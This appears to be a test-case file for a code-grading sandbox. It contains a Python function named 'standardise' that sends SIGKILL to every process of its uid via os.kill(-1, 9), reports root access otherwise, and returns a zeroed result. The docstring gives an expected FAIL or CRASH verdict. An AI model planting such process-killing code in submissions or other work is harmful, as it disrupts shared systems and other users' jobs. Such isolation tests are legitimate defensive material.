"""kill(-1): one signal to every process that may be signalled.

tries: everything of the same uid dies at once, children of other submissions among it.
must: nobody else has this uid; the child may die of it: FAIL or CRASH.
score: 0
verdict: FAIL, CRASH
process: never
"""

import os

import torch


def standardise(x):
    if os.getuid() != 0:
        os.kill(-1, 9)
    else:
        print("GAINED uid 0")
    return x * 0
